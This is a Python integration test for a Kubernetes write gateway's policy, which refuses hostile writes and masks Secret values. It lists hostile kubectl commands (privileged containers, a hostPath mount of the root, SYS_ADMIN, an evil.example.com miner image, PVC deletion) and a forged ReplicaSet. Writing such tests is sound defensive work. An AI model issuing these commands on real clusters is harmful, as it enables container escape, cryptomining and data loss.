"""The write policy on the real write path: kubectl lines and typed tool calls through the WriteGateway against the
arena. Every hostile write is refused by the policy (judged on the server's dry-run result, whatever the patch form),
nothing is journaled as a write that may have run (an update's intent, appended beside its dry run, is voided) and the
scope's digest does not move; Secret values never reach a reader."""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from stratus.actions import Action, Create
from stratus.contracts import JournalRecord, Lease, utcnow
from stratus.gateway import KubeApi, ReadGateway, WriteGateway
from stratus.journal import undo_plan
from stratus.scrub import MASK

pytestmark = pytest.mark.integration
pytest_plugins = ["tests.fixtures_arena"]

SECRET_VALUE = "aHVudGVyMg=="  # base64 of a made-up password


@pytest.fixture(scope="module")
def kubeconfig(arena_kubeconfig: Path) -> Path:
    return arena_kubeconfig


@pytest.fixture
async def ns(kubeconfig: Path) -> AsyncIterator[str]:
    name = f"wp-{uuid.uuid4().hex[:8]}"
    api = KubeApi.from_kubeconfig(kubeconfig)
    objects: list[dict[str, Any]] = [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}},
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "web", "namespace": name},
            "spec": {
                "replicas": 1,
                "selector": {"matchLabels": {"app": "web"}},
                "template": {
                    "metadata": {"labels": {"app": "web"}},
                    "spec": {"containers": [{"name": "app", "image": "nginx:1.25", "ports": [{"containerPort": 80}]}]},
                },
            },
        },
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": "web", "namespace": name},
            "spec": {"selector": {"app": "web"}, "ports": [{"port": 80, "targetPort": 80}]},
        },
        {
            "apiVersion": "v1",
            "kind": "PersistentVolumeClaim",
            "metadata": {"name": "data", "namespace": name},
            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
        },
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {
                "name": "db",
                "namespace": name,
                "annotations": {
                    "kubectl.kubernetes.io/last-applied-configuration": json.dumps({"data": {"pw": SECRET_VALUE}})
                },
            },
            "data": {"pw": SECRET_VALUE},
        },
    ]
    for obj in objects:
        await asyncio.to_thread(api.create, obj)
    yield name
    api.close()


class Journal:
    def __init__(self) -> None:
        self.records: list[JournalRecord] = []

    async def append(self, record: JournalRecord) -> None:
        self.records.append(record)


async def allow(scope: str, token: int) -> None:
    return None


def gateway(kubeconfig: Path, ns: str, journal: Journal) -> WriteGateway:
    """A write gateway under a lease on ``ns`` that journals into ``journal``."""
    lease = Lease(scope=ns, holder="test", token=1, expires_at=utcnow())
    return WriteGateway.from_kubeconfig(
        kubeconfig,
        lease=lease,
        check_fence=allow,
        journal_intent=journal.append,
        journal_outcome=journal.append,
        default_namespace=ns,
    )


def hostile_lines(ns: str) -> list[str]:
    template = '{"spec":{"template":{"spec":%s}}}'
    return [
        "kubectl patch deploy web -p '"
        + template % '{"containers":[{"name":"app","securityContext":{"privileged":true}}]}'
        + "'",
        'kubectl patch deploy web --type=json -p \'[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]\'',
        "kubectl patch deploy web --type=merge -p '" + template % '{"hostNetwork":true}' + "'",
        "kubectl patch deploy web --type=merge -p '"
        + template % '{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}'
        + "'",
        'kubectl patch deploy web --type=json -p \'[{"op":"add","path":"/spec/template/spec/containers/0/'
        'securityContext","value":{"capabilities":{"add":["SYS_ADMIN"]}}}]\'',
        "kubectl patch deploy web -p '" + template % '{"serviceAccountName":"admin"}' + "'",
        "kubectl patch deploy web --type=merge -p '" + template % '{"serviceAccount":"admin"}' + "'",
        "kubectl set image deploy/web app=evil.example.com/miner:1",
        "kubectl scale deploy web --replicas=1000",
        'kubectl patch deploy web --type=merge -p \'{"metadata":{"ownerReferences":[{"apiVersion":"v1",'
        '"kind":"ConfigMap","name":"x","uid":"00000000-0000-0000-0000-000000000001"}]}}\'',
        'kubectl patch pvc data --type=merge -p \'{"metadata":{"finalizers":null}}\'',
        "kubectl delete pvc data",
        'kubectl patch svc web -p \'{"spec":{"type":"NodePort"}}\'',
        'kubectl patch svc web --type=merge -p \'{"spec":{"type":"LoadBalancer"}}\'',
        'kubectl patch secret db --type=merge -p \'{"data":{"pw":"eA=="}}\'',
    ]


async def test_hostile_writes_are_refused_and_change_nothing(kubeconfig: Path, ns: str) -> None:
    reader = ReadGateway.from_kubeconfig(kubeconfig)
    journal = Journal()
    gw = gateway(kubeconfig, ns, journal)
    try:
        before = await reader.state_digest(ns)
        for line in hostile_lines(ns):
            answer = await gw.kubectl(line, namespace=ns)
            assert "refused by the write policy" in answer, (line, answer)
            assert ". Instead: " in answer, answer
        typed: list[Action] = [
            Create(manifest={"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s2", "namespace": ns}}),
            Create(
                manifest={"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "sa", "namespace": ns}}
            ),
        ]
        for action in typed:
            with pytest.raises(Exception, match="refused by the write policy"):
                await gw.write(action)
        await gw.flush()
        assert undo_plan(journal.records) == [], "a refused write is never journaled as one that may have run"
        intents = {r.seq for r in journal.records if r.phase == "intent"}
        voids = {r.seq for r in journal.records if r.phase == "outcome" and r.ok is False}
        assert intents == voids and all(r.action.verb not in ("create", "delete") for r in journal.records)
        assert gw.writes == 0
        after = await reader.state_digest(ns)
        assert after.digest == before.digest
        # a plain fix still goes through
        assert "scaled" in await gw.kubectl("kubectl scale deploy web --replicas=2", namespace=ns)
    finally:
        gw.close()
        reader.close()


async def test_secret_values_never_reach_a_reader(kubeconfig: Path, ns: str) -> None:
    reader = ReadGateway.from_kubeconfig(kubeconfig)
    try:
        for line in (
            f"kubectl get secret db -n {ns} -o yaml",
            f"kubectl get secret db -n {ns} -o json",
            f"kubectl get secrets -n {ns} -o yaml",
            f"kubectl describe secret db -n {ns}",
        ):
            text = await reader.kubectl(line)
            assert SECRET_VALUE not in text, (line, text)
        shown = await reader.kubectl(f"kubectl get secret db -n {ns} -o json")
        assert json.loads(shown)["data"] == {"pw": MASK}
        obj = await reader.get_object("Secret", ns, "db")
        assert obj is not None and obj["data"] == {"pw": MASK}
        listed = await reader.list_objects("Secret", ns)
        assert SECRET_VALUE not in json.dumps(listed)
    finally:
        reader.close()


async def test_a_rollback_to_a_registry_of_the_history_passes_and_history_cannot_be_forged(
    kubeconfig: Path, ns: str
) -> None:
    api = KubeApi.from_kubeconfig(kubeconfig)
    journal = Journal()
    gw = gateway(kubeconfig, ns, journal)

    def revisions() -> int:
        return len(api.items("ReplicaSet", ns))

    try:
        # an operator (not Stratus) moves the workload to another registry: its ReplicaSet history keeps docker.io
        move = [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "ghcr.io/acme/web:2"}]
        await asyncio.to_thread(api.patch, "Deployment", ns, "web", move, "json")
        for _ in range(100):
            if await asyncio.to_thread(revisions) >= 2:
                break
            await asyncio.sleep(0.1)
        # a ReplicaSet forged to claim the Deployment as its controller is refused, so it never joins the history
        web = await asyncio.to_thread(api.get, "Deployment", ns, "web")
        forged = {
            "apiVersion": "apps/v1",
            "kind": "ReplicaSet",
            "metadata": {
                "name": "web-forged",
                "namespace": ns,
                "labels": {"app": "web", "x": "y"},
                "ownerReferences": [
                    {
                        "apiVersion": "apps/v1",
                        "kind": "Deployment",
                        "name": "web",
                        "uid": web["metadata"]["uid"],
                        "controller": True,
                    }
                ],
            },
            "spec": {
                "replicas": 0,
                "selector": {"matchLabels": {"app": "web", "x": "y"}},
                "template": {
                    "metadata": {"labels": {"app": "web", "x": "y"}},
                    "spec": {"containers": [{"name": "app", "image": "evil.example.com/miner:1"}]},
                },
            },
        }
        with pytest.raises(Exception, match="refused by the write policy"):
            await gw.write(Create(manifest=forged))
        answer = await gw.kubectl("kubectl set image deploy/web app=evil.example.com/miner:1", namespace=ns)
        assert "refused by the write policy (registry)" in answer, answer
        # putting back the image the workload ran before brings no new registry
        answer = await gw.kubectl("kubectl set image deploy/web app=nginx:1.25", namespace=ns)
        assert "refused" not in answer, answer
        assert gw.writes == 1
    finally:
        gw.close()
        api.close()
